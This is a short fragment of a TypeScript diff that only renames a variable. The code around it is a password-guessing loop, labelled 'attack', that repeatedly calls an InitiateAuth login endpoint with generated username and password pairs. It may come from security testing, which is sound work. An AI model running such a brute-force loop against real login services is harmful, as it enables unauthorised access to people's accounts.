@@ -19,13 +19,13 @@ const countCompared = async (
   makeGuess: (number: number) => Guess,
 ): Promise<number> => {
   const { clientId, endpoint } = await findPool(environment.product.origin);
-  const ask = poolClient(endpoint);
+  const request = poolClient(endpoint);
   let next = 0;
   let compared = 0;
   const attack = async (): Promise<void> => {
     while (next < guesses) {
       const { username, password } = makeGuess(next++);
-      const { status, body } = await ask("InitiateAuth", {
+      const { status, body } = await request("InitiateAuth", {
         ClientId: clientId,
         AuthFlow: "USER_PASSWORD_AUTH",
         AuthParameters: { USERNAME: username, PASSWORD: password },
